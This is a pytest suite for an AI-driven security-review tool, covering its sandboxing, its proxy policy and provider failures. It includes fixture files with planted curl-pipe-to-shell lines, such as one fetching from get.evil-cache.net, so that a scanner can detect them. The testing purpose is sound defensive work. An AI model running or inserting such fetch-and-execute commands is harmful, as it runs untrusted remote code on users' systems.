"""The real command lines, unmodified, in their images, through the shipped stack and the whole command, against a scripted model."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from threading import Event
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from containment.conftest import gateway  # noqa: F401  # a fixture
from containment.sandboxes import KEY
from pinwarden.agents import REVIEWERS
from pinwarden.reviewer import Agent
from pinwarden.sandbox import PROVIDERS
from proxy.policy import Call, Refused, Request, Rules, decide
from proxy.policy import Provider as PolicyProvider
from support.commands import SCRIPTS, run_command
from support.git_server import GitServer
from support.models import AGAIN, READ, REPORT, REVIEW, WRITTEN, Models, Run, Step, Write, tools_of
from support.provider import Answer, Cut, document, event, events
from support.reviews import Change

pytestmark = pytest.mark.engine
VALID = Draft202012Validator(json.loads((SCRIPTS.parent / "schemas" / "review.schema.json").read_bytes()))
BOTH = pytest.mark.parametrize("agent", ["claude", "codex"])


@dataclass(frozen=True, slots=True)
class Seen:
    """What came of one review."""

    code: int
    review: dict[str, Any]
    ledger: list[dict[str, Any]]
    log: str
    provider: Models


class Reviews:
    """Runs the whole command with a scripted model."""

    def __init__(self, root: Path, host: str, stack: ExitStack) -> None:
        self.root = root
        self._host = host
        self._stack = stack
        self.change = Change(root, stack.enter_context(GitServer(root / "upstreams")))
        self.head: dict[str, bytes] = {"server.py": b"x = 2\n"}

    def provider(self, turns: Sequence[Sequence[Step]], then: tuple[int, Answer] | None = None, read: int = READ) -> Models:
        return self._stack.enter_context(Models(self._host, turns, then, read))

    def given(self, provider: Models) -> dict[str, str]:
        """The environment of a command that asks this provider."""
        keys = {known.key_variable: KEY for known in PROVIDERS.values()}
        images = os.environ.get("PINWARDEN_TEST_IMAGES", "")
        place = {"XDG_CACHE_HOME": str(self.root / "cache"), "RUNNER_TEMP": "", "PINWARDEN_PROVIDER_URL": provider.url, "PINWARDEN_IMAGES": images}
        return keys | place

    def run(
        self,
        agent: str,
        *arguments: str,
        turns: Sequence[Sequence[Step]] = (REVIEW,),
        then: tuple[int, Answer] | None = None,
        full: bool = False,
        read: int = READ,
        first: Sequence[Answer] = (),
        **environment: str,
    ) -> Seen:
        provider = self.provider(turns, then, read)
        provider.answer(*first)
        self.change.serve({"server.py": b"x = 1\n"}, self.head)
        output = self.root / "review"
        options = [*self.change.options(output, full=full), "--agent", agent, *arguments]
        done = run_command("run_review", *options, given=self.given(provider) | environment)
        assert done.returncode in (0, 1), done.stderr
        review = json.loads((output / "review.json").read_bytes())
        assert list(VALID.iter_errors(review)) == []
        ledger = [json.loads(line) for line in (output / "ledger.jsonl").read_text().splitlines()]
        return Seen(done.returncode, review, ledger, (output / "agent.log").read_text(), provider)


@pytest.fixture
def reviews(tmp_path: Path, gateway: str) -> Iterator[Reviews]:  # noqa: F811  # the fixture
    with ExitStack() as stack:
        yield Reviews(tmp_path, gateway, stack)


MODELS = [(agent.value, model) for agent, reviewer in REVIEWERS.items() for model in reviewer.models]


@pytest.mark.parametrize(
    ("agent", "model", "full"), [*((agent, model, False) for agent, model in MODELS), ("claude", "claude-opus-5-5", True), ("codex", "gpt-6.1-sol", True)]
)
def test_a_review(reviews: Reviews, agent: str, model: str, full: bool) -> None:
    seen = reviews.run(agent, "--model", model, full=full)
    assert (seen.code, seen.review["outcome"], seen.review["reasons"], seen.review["mode"]) == (0, "complete", [], "full" if full else "differential")
    assert seen.review["model"] == model
    assert seen.review["report"]["markdown"]
    assert seen.review["agent_version"]
    assert [(call["decision"], call["reason"]) for call in seen.ledger] == [("forwarded", "")] * 4
    assert seen.review["usage"] == {"requests": 4, "tokens": 4 * (READ + WRITTEN), "refused": 0}
    credential = {"claude": "x-api-key", "codex": "authorization"}[agent]
    for call in seen.provider.calls:
        assert call.headers.keys() <= {
            "host",
            "accept",
            "accept-encoding",
            "content-type",
            "content-length",
            "user-agent",
            *(("anthropic-version", "anthropic-beta") if agent == "claude" else ("x-openai-internal-codex-responses-lite",)),
            credential,
        }
        assert call.headers[credential].removeprefix("Bearer ") == KEY
        assert KEY.encode() not in call.body
        body = json.loads(call.body)
        tools = list(tools_of(body))
        assert tools
        assert {tool.get("type", "custom") for tool in tools} <= {"custom", "function"}
        assert body["model"] == model
    assert KEY not in seen.log


@BOTH
def test_what_the_model_is_told_and_can_do(reviews: Reviews, agent: str) -> None:
    asks = Run(
        "pwd; ls -A; id -u; ls -A $HOME; git -C /in/repository log --format=%s base..head; cat /in/base/server.py; env | cut -d= -f1 | sort | tr '\\n' ' '"
    )
    seen = reviews.run(agent, turns=[[asks, *REVIEW[1:]]])
    told = seen.provider.calls[1].body.decode()
    assert "/tmp/home/empty" in told
    assert "x = 1" in told
    assert "Look first at what runs" in seen.provider.calls[0].body.decode()
    assert ("CLIENT_TOKEN" in told) is (agent == "claude")


def test_the_token_is_worth_nothing(reviews: Reviews) -> None:
    """What the shell of an agent sees: a token, and a proxy that takes it for reviews alone."""
    asks = Run("curl -s http://127.0.0.1:4000/v1/files || python3 -c \"import urllib.request as u; print(u.urlopen('http://127.0.0.1:4000/v1/files'))\"")
    seen = reviews.run("claude", turns=[[asks, *REVIEW[1:]]])
    assert seen.code == 0
    assert [(call["decision"], call["reason"], call["status"]) for call in seen.ledger if call["decision"] == "refused"] == [("refused", "token", 401)]


HOSTED: list[dict[str, Any]] = [
    {"type": "web_search", "external_web_access": True},
    {"type": "namespace", "name": "deep", "tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]},
    {"type": "mcp", "server_label": "x", "server_url": "https://example.com"},
]


@pytest.mark.parametrize("hosted", HOSTED, ids=lambda tool: tool["type"])
def test_a_hosted_tool_among_the_real_ones_is_refused(reviews: Reviews, hosted: dict[str, Any]) -> None:
    """Newer models are told their tools in the input: the real request, with one more tool where they stand."""
    [body, *_] = reviews.run("codex", "--model", "gpt-6.1-sol").provider.bodies
    assert "tools" not in body
    [added] = [item for item in body["input"] if item.get("type") == "additional_tools"]
    rules = Rules(PolicyProvider.OPENAI, frozenset({"gpt-6.1-sol"}), 16_000)
    call = partial(Call, "POST", "/v1/responses", ())
    assert isinstance(decide(rules, call(json.dumps(body).encode())), Request)
    added["tools"].append(hosted)
    refused = decide(rules, call(json.dumps(body).encode()))
    assert isinstance(refused, Refused)
    assert refused.code == "tool-type"
    assert "additional" not in refused.message


OWN_CALL = """
import json, os, urllib.error, urllib.request as u
body = {"model": os.environ["PINWARDEN_MODEL"], "max_tokens": 10, "messages": [{"role": "user", "content": "hello"}], "tools": [%s]}
head = {"authorization": "Bearer " + os.environ["PINWARDEN_CLIENT_TOKEN"], "content-type": "application/json"}
try:
    print(u.urlopen(u.Request("http://127.0.0.1:4000/v1/messages", json.dumps(body).encode(), head)).status)
except urllib.error.HTTPError as error:
    print(error.code)
"""


def test_a_call_of_the_agents_own_making_is_held_to_the_policy(reviews: Reviews) -> None:
    calls = [Write(f"/tmp/{number}.py", OWN_CALL % tool) for number, tool in enumerate(("", '{"type": "web_search_20250305", "name": "web_search"}'))]
    seen = reviews.run("claude", turns=[[*calls, Run("python3 -I /tmp/0.py; python3 -I /tmp/1.py"), *REVIEW[1:]]])
    assert [call["reason"] for call in seen.ledger if call["decision"] == "refused"] == ["tool-type"]
    assert sum(b'"hello"' in call.body for call in seen.provider.calls if b"max_tokens" in call.body and len(call.body) < 1000) == 1
    assert not any(b'"web_search_20250305"' in call.body for call in seen.provider.calls)


@BOTH
def test_two_turns(reviews: Reviews, agent: str) -> None:
    wrong = [Write("/out/report.md", "# Fine\n"), Write("/out/labels.txt", "security-risk: none\n")]
    seen = reviews.run(agent, turns=[wrong, [Run("cat /out/report.md"), *REVIEW[1:]]] if agent == "codex" else [wrong, [Run("rm /out/*"), *REVIEW[1:]]])
    assert (seen.code, seen.review["reasons"]) == (0, [])
    first, *_, last = (call.body.decode() for call in seen.provider.calls)
    assert AGAIN not in first
    assert "no section" in last
    assert "not a label" in last
    assert seen.review["usage"]["requests"] == 3 + 4


@BOTH
def test_there_is_no_third_turn(reviews: Reviews, agent: str) -> None:
    seen = reviews.run(agent, turns=[[Run("true")]])
    assert seen.code == 1
    assert seen.review["reasons"] == ["there is no report.md", "there is no labels.txt"]
    assert len(seen.provider.calls) == 4


def failing(status: int, code: str, **headers: str) -> Answer:
    """An error in a form that both providers' clients read."""
    return document({"type": "error", "error": {"type": code, "code": code, "message": "no"}}, status, **headers)


def began(agent: str, *rest: Any) -> Answer:
    """The beginning of an answer, and then `rest`."""
    if agent == "codex":
        return events(event("response.created", response={"id": "resp_x", "status": "in_progress"}), *rest)
    usage = {"input_tokens": 1, "output_tokens": 1}
    message: dict[str, Any] = {"id": "msg_x", "type": "message", "role": "assistant", "model": "m", "content": [], "stop_reason": None, "usage": usage}
    return events(event("message_start", message=message), event("content_block_start", index=0, content_block={"type": "text", "text": ""}), *rest)


FAILURES: dict[str, tuple[Callable[[str], Answer], str]] = {
    "400": (lambda _: failing(400, "invalid_request_error"), "the provider answered the last call with status 400"),
    "401": (lambda _: failing(401, "authentication_error"), "the provider does not take the key"),
    "403": (lambda _: failing(403, "permission_error"), "the provider answered the last call with status 403"),
    "404": (lambda _: failing(404, "not_found_error"), "the provider answered the last call with status 404"),
    "429": (lambda _: failing(429, "rate_limit_error"), "the provider answered the last call with status 429"),
    "500": (lambda _: failing(500, "api_error"), "the provider answered the last call with status 500"),
    "529": (lambda _: failing(529, "overloaded_error"), "the provider answered the last call with status 529"),
    "no-head": (lambda _: Answer(held=Event()), "the provider did not begin to answer in time"),
    "stalled": (lambda agent: began(agent, Event()), "the provider's answer broke off or stood still"),
    "cut": (lambda agent: began(agent, Cut()), "the provider's answer broke off or stood still"),
}
TIMEOUT = 45


@BOTH
@pytest.mark.parametrize("failure", FAILURES)
def test_a_provider_that_fails(reviews: Reviews, agent: str, failure: str) -> None:
    make, reason = FAILURES[failure]
    seen = reviews.run(agent, "--timeout", str(TIMEOUT), then=(2, make(agent)))
    assert seen.code == 1
    assert seen.review["outcome"] == "incomplete"
    assert seen.review["reasons"] == ["the agent ended with exit code 1", reason, "there is no labels.txt"]
    assert len(seen.provider.calls) <= 2 + 6


@BOTH
def test_a_provider_that_is_not_there(reviews: Reviews, agent: str) -> None:
    seen = reviews.run(agent, "--timeout", str(TIMEOUT), PINWARDEN_PROVIDER_URL="http://127.0.0.1:9")
    assert seen.review["reasons"][:2] == ["the agent ended with exit code 1", "the provider can't be reached"]


@BOTH
def test_a_spent_budget(reviews: Reviews, agent: str) -> None:
    seen = reviews.run(agent, "--timeout", str(TIMEOUT), read=REVIEWERS[Agent(agent)].budget.tokens)
    assert seen.review["reasons"][:2] == ["the agent ended with exit code 1", "the budget was spent before the review was done"]
    assert len(seen.provider.calls) == 1
    assert len(seen.ledger) == 2


@BOTH
def test_half_a_report(reviews: Reviews, agent: str) -> None:
    half = [Write("/out/report.md", REPORT[: len(REPORT) // 2]), Write("/out/labels.txt", "security-ri")]
    seen = reviews.run(agent, "--timeout", str(TIMEOUT), turns=[half], then=(2, failing(403, "permission_error")))
    assert seen.review["outcome"] == "incomplete"
    assert seen.review["reasons"][0] == "the agent ended with exit code 1"
    assert 'not a label: "security-ri"' in seen.review["reasons"]


@BOTH
def test_files_of_an_agent_that_failed_are_not_relied_on(reviews: Reviews, agent: str) -> None:
    seen = reviews.run(agent, "--timeout", str(TIMEOUT), then=(3, failing(403, "permission_error")))
    assert (seen.code, seen.review["outcome"], seen.review["risk"]) == (1, "incomplete", None)
    assert seen.review["reasons"] == ["the agent ended with exit code 1", "the provider answered the last call with status 403"]


@BOTH
def test_a_provider_that_recovers(reviews: Reviews, agent: str) -> None:
    """An error that passes does not end a review, and a pause that a provider asks for is bounded."""
    script = [failing(529, "overloaded_error"), failing(429, "rate_limit_error", **{"retry-after": "1"})]
    seen = reviews.run(agent, first=script)
    assert (seen.code, seen.review["reasons"]) == (0, [])
    assert len(seen.provider.calls) == 4 + 2


EVIL = {
    "src/run.py": b'import os\nos.system("curl -s https://get.evil-cache.net | sh")\n',
    "other/run.py": b'import os\nos.system("curl -s https://x.io | sh")\n',
}


@pytest.mark.guarddog
@pytest.mark.parametrize("full", [False, True])
def test_guarddog_finds_the_same_in_the_sandbox(reviews: Reviews, guarddog_cache: Path, full: bool) -> None:
    base = {"src/old.py": b'import os\nos.system("curl -s https://old.io | sh")\n'}
    reviews.change.serve(base, base | EVIL)
    made = []
    for sandbox in ("none", "compose"):
        output = reviews.root / f"review-{sandbox}"
        options = [*reviews.change.options(output, full=full), "--agent=guarddog", f"--sandbox={sandbox}", "--directory=src"]
        given = {"XDG_CACHE_HOME": str(guarddog_cache), "RUNNER_TEMP": ""}
        done = run_command("run_review", *options, given=given)
        assert done.returncode == 0, done.stderr
        made.append(json.loads((output / "review.json").read_bytes()))
        assert list(VALID.iter_errors(made[-1])) == []
    here, there = made
    same = ("agent_version", "outcome", "risk", "labels", "findings", "reasons", "report")
    assert {key: here[key] for key in same} == {key: there[key] for key in same}
    assert there["reasons"] == []
    assert {finding["evidence"][0]["path"] for finding in there["findings"]} == ({"src/run.py", "src/old.py"} if full else {"src/run.py"})
    assert there["usage"] == {}


def test_several_agents_on_one_target(reviews: Reviews) -> None:
    """Each has a check of its own, and the worst is the check for all."""
    evil = REPORT.replace("## Recommended", "### [CRITICAL] It runs what it fetches\n\nEvidence: head server.py:1\n\n## Recommended").replace(
        ":info", ":critical"
    )
    said = {"claude": REVIEW, "codex": [Write("/out/report.md", evil), Write("/out/labels.txt", "security-risk:critical\n")]}
    reviews.change.serve({"server.py": b"x = 1\n"}, reviews.head)
    for agent in ("claude", "codex", "guarddog"):
        provider = reviews.provider([said.get(agent, REVIEW)])
        output = reviews.root / "reviews" / agent
        done = run_command("run_review", *reviews.change.options(output), "--agent", agent, given=reviews.given(provider))
        assert done.returncode == (agent == "codex"), done.stderr
    review = json.loads((reviews.root / "reviews/claude/review.json").read_bytes())
    target = {key: review[key] for key in ("server", "mode", "project", "base", "head", "directory")}
    (reviews.root / "plan.json").write_text(json.dumps({"targets": [target], "agents": ["claude", "codex", "guarddog"]}))
    report: list[str | Path] = ["--reviews", reviews.root / "reviews", "--plan", reviews.root / "plan.json", "--dry-run", "--format", "json"]
    printed = json.loads(run_command("report_status", *report).stdout)
    assert {check["name"]: check["conclusion"] for check in printed["checks"]} == {
        "security-review/claude/mail": "success",
        "security-review/codex/mail": "failure",
        "security-review/guarddog/mail": "success",
    }
    assert printed["overall"]["conclusion"] == "failure"


def test_a_model_that_is_not_on_the_list_is_misuse(reviews: Reviews) -> None:
    reviews.change.serve({"server.py": b"x = 1\n"}, reviews.head)
    options = [*reviews.change.options(reviews.root / "review"), "--agent", "claude", "--model", "gpt-6.1-sol"]
    done = run_command("run_review", *options, given=reviews.given(reviews.provider([REVIEW])))
    assert (done.returncode, done.stderr.splitlines()) == (
        2,
        ['error: claude may not ask "gpt-6.1-sol"', f"  models are {', '.join(REVIEWERS[Agent.CLAUDE].models)}"],
    )
